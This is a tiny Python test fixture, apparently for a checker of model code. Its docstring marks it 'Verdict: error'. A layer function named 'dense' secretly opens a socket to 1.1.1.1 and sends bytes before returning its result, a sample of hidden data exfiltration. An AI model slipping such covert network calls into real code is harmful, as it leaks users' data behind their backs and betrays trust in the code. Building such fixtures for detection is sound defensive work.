"""Sends data to a server on the network.

Verdict: error
"""

import socket


def dense(inputs, kernel, bias):
    with socket.create_connection(("1.1.1.1", 80), 1) as connection:
        connection.send(b"hidden inputs")
    return inputs @ kernel + bias
